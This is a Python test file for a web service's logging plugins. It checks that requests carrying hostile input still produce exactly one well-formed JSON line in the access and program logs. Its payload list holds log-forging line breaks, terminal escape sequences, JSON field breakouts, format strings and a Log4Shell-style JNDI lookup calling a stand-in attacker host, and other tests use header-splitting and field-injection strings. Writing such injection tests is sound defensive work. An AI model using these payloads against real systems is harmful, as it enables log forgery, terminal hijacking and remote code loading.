"""Attack: text that poses as a line of a log, as a field, or as an order to the terminal.

Both logs are read as an operator's tools read them: one line, one JSON object.
"""

from __future__ import annotations

import io
import json
import logging
import re
from types import SimpleNamespace

import pytest
from flask import Blueprint
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from werkzeug.test import EnvironBuilder, run_wsgi_app

from plugins.access_log.plugin import AccessLog
from plugins.anonymous.plugin import Anonymous
from plugins.errors.plugin import Errors
from plugins.scopes.plugin import Scopes
from plugins.transport.plugin import Transport
from secureml import Event, Phase, Principal, Problem, Refusal, program_log, public
from secureml.testing import Harness

FORGED = '{"time": "2026-01-01T00:00:00.000Z", "id": "forged", "status": 200}'
# Line ends of ASCII, of latin-1 and of Unicode as UTF-8; colours, a title, a cleared screen;
# quotes that would close a value; a null; a mark that turns the reading direction.
PAYLOADS = [
    f"\n{FORGED}\n",
    f"\r\n{FORGED}\r\n",
    f"\r{FORGED}",
    f"\x0b\x0c\x1c\x1d\x1e\x85{FORGED}",
    "\u2028\u2029".encode().decode("latin-1"),
    "\x1b[2J\x1b[31mred",
    "\x1b]0;title\x07",
    "\x9b2J",
    '", "status": 200, "x": "',
    "\\",
    '\\"',
    "\\u000a",
    "\x00",
    "\x7f",
    "\x08" * 20,
    "%s%n%(name)s",
    "{asctime}",
    "${jndi:ldap://evil.example/a}",
    "\u202e".encode().decode("latin-1"),
    "\xff\xfe",
]
HEADERS = [
    "HTTP_HOST",
    "HTTP_USER_AGENT",
    "HTTP_REFERER",
    "HTTP_COOKIE",
    "HTTP_X_REQUEST_ID",
    "HTTP_X_FORWARDED_FOR",
    "HTTP_X_FORWARDED_PROTO",
    "HTTP_X_API_KEY",
    "CONTENT_TYPE",
    "HTTP_AUTHORIZATION",
    "HTTP_ACCEPT",
    "HTTP_CONTENT_ENCODING",
    "HTTP_X_SECUREML_EDGE",
]
PLACES = ["PATH_INFO", "QUERY_STRING", "REQUEST_METHOD", *HEADERS]
WIRE = st.sampled_from(PAYLOADS) | st.text(st.characters(max_codepoint=255), max_size=60)
GOOD = {
    "REMOTE_ADDR": "",
    "HTTP_HOST": "ml.example.org",
    "HTTP_X_FORWARDED_FOR": "192.0.2.7",
    "HTTP_X_FORWARDED_PROTO": "https",
}


@pytest.fixture
def program():
    """The program's own log, formatted as the server formats it, into a text of ours."""
    logger = logging.getLogger("secureml")
    before, level = list(logger.handlers), logger.level
    logger.handlers.clear()
    program_log.configure("debug")
    (handler,) = logger.handlers
    stream = io.StringIO()
    handler.setStream(stream)
    yield stream
    logger.handlers[:] = before
    logger.setLevel(level)


@pytest.fixture
def server(tmp_path):
    """An app with transport and log, and its folder."""
    harness = Harness(tmp_path, in_full=1_000_000)
    views = Blueprint("test", __name__)

    @views.route("/fail/<path:text>", methods=["GET", "POST"])
    @public()
    def fail(text):
        raise ValueError(text)

    @views.route("/refuse/<path:text>", methods=["GET", "POST"])
    @public()
    def refuse(text):
        raise Problem("rate_limited", reason=text)

    transport = {"trusted": ["unix"], "hosts": ["ml.example.org"]}
    plugins = [
        harness.load(Transport, transport),
        harness.load(Anonymous),
        harness.load(Scopes),
        harness.load(Errors),
        harness.load(AccessLog),
    ]
    yield harness.app(plugins, [views]), tmp_path / "logs" / "access.log"
    plugins[-1].plugin.close()


def send(app, environ):
    """Send one raw request; return its status and the whole answer as text."""
    plain = EnvironBuilder().get_environ() | GOOD
    body, status, headers = run_wsgi_app(app, plain | environ)
    return int(status[:3]), f"{headers}{b''.join(body).decode()}"


def check_lines(text, number=None):
    """Each line must be one JSON object of printable ASCII; return them."""
    assert re.fullmatch(r"(?:[ -~]+\n)*", text), "a line holds a character that is not printable"
    objects = [json.loads(line) for line in text.splitlines()]
    assert all(type(item) is dict for item in objects)
    assert number is None or len(objects) == number
    return objects


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("place", PLACES)
def test_a_payload_in_any_place_leaves_one_line_of_the_access_log(server, program, place, payload):
    """Whatever it is refused with, or answered."""
    app, log = server
    text = f"/{payload}" if place == "PATH_INFO" else payload
    send(app, {place: text})

    (line,) = check_lines(log.read_text(), 1)
    assert line["id"] != "forged"
    assert re.fullmatch(r"[0-9a-f]{32}", line["id"])
    check_lines(program.getvalue())


@settings(
    suppress_health_check=[HealthCheck.function_scoped_fixture], max_examples=200, deadline=None
)
@given(st.dictionaries(st.sampled_from(PLACES), WIRE))
def test_no_request_leaves_more_or_less_than_one_line(server, program, environ):
    """Over all places at once."""
    app, log = server
    log.write_text("")
    environ["PATH_INFO"] = "/" + environ.get("PATH_INFO", "")
    send(app, environ)

    check_lines(log.read_text(), 1)
    check_lines(program.getvalue())


@pytest.mark.parametrize("payload", PAYLOADS)
def test_an_exception_that_repeats_the_request_stays_one_line(server, program, payload):
    """A library's message often holds the caller's text, and a traceback has many lines."""
    app, log = server
    status, answer = send(app, {"PATH_INFO": f"/fail/x{payload}"})

    assert status in (404, 500)
    check_lines(log.read_text(), 1)
    for line in check_lines(program.getvalue()):
        assert line["level"] in ("ERROR", "INFO")
    assert "forged" not in answer


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_reason_that_repeats_the_request_stays_one_value(server, program, payload):
    """A plugin may be careless with its reason; the log is not."""
    app, log = server
    send(app, {"PATH_INFO": f"/refuse/x{payload}"})

    (line,) = check_lines(log.read_text(), 1)
    assert line["status"] in (404, 429)
    check_lines(program.getvalue())


def test_a_client_cannot_choose_the_fields_of_its_line(server, program):
    """Its text is a value; names of fields are ours."""
    app, log = server
    send(app, {})
    expected = set(check_lines(log.read_text(), 1)[0])
    log.write_text("")
    send(app, dict.fromkeys(("QUERY_STRING", *HEADERS[1:5]), '","admin":true,"id":"forged'))

    assert set(check_lines(log.read_text(), 1)[0]) == expected


def test_a_client_cannot_write_a_body_into_a_header_of_the_answer(server, program):
    """No header of an answer repeats the request."""
    app, _ = server
    for place in PLACES:
        _, answer = send(app, {place: "/split\r\nSet-Cookie: forged=1"})
        assert "forged" not in answer


ANY = st.text(max_size=60) | st.sampled_from(PAYLOADS)
TEXTS = [
    "id", "foreign_id", "address", "method", "route", "client", "credential", "auth",
    "model", "version", "code", "plugin", "reason",
]  # fmt: skip


def filled(exchange, text):
    """Put texts where every field of a line comes from, whoever may write there."""
    names = ("client", "subject", "tier", "auth", "credential")
    client, subject, tier, method, credential = (text.get(name, "") for name in names)
    principal = Principal(client, subject, frozenset(), frozenset(), tier, method, credential)
    refusal = Refusal(Phase.LIMIT, text["plugin"], Problem(text["code"], reason=text["reason"]))
    exchange.id, exchange.foreign_id, exchange.route = (
        text["id"], text["foreign_id"], text["route"],
    )  # fmt: skip
    exchange.client_address, exchange.request.method = text["address"], text["method"]
    exchange.principal, exchange.refusal, exchange.observed = principal, refusal, [refusal]
    exchange.model = SimpleNamespace(name=text["model"], version=text["version"])
    exchange.add_event("authn_token_revoked", jti=text["reason"])
    return exchange


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None)
@given(st.fixed_dictionaries(dict.fromkeys(TEXTS, ANY)))
def test_whatever_stands_in_any_field_a_line_is_one_object_that_says_just_that(tmp_path, text):
    """Not only what a request can carry: what a plugin, a store or a provider may hold."""
    harness = Harness(tmp_path)
    log = harness.build(AccessLog)
    file = tmp_path / "logs" / "access.log"
    file.write_text("")
    log.record(filled(harness.exchange(), text))
    log.close()

    (line,) = check_lines(file.read_text("ascii"), 1)
    expected = text | {"reason": text["reason"] or text["code"]}
    assert {name: line[name] for name in TEXTS} == expected
    assert [line["observed"][0][name] for name in ("code", "plugin", "reason")] == [
        expected[name] for name in ("code", "plugin", "reason")
    ]
    assert line["events"] == ["authn_token_revoked"]
    harness.store.close()


def test_every_text_of_a_line_is_among_those_that_are_attacked(tmp_path):
    """A field that is added is attacked from its first day."""
    harness = Harness(tmp_path)
    log = harness.build(AccessLog)
    log.record(filled(harness.exchange(), dict.fromkeys(TEXTS, "x")))
    log.close()
    (line,) = check_lines((tmp_path / "logs" / "access.log").read_text(), 1)

    ours = {"time", "phase"}  # made of a number, and of a name of ours
    assert {name for name, value in line.items() if isinstance(value, str)} - ours == set(TEXTS)
    harness.store.close()


@given(ANY)
def test_an_event_cannot_be_named_by_a_caller(text):
    """Its name is a word of the vocabulary, or there is no event."""
    try:
        name = Event(text).name
    except ValueError:
        return
    assert re.fullmatch(r"[a-z0-9_]+", name)
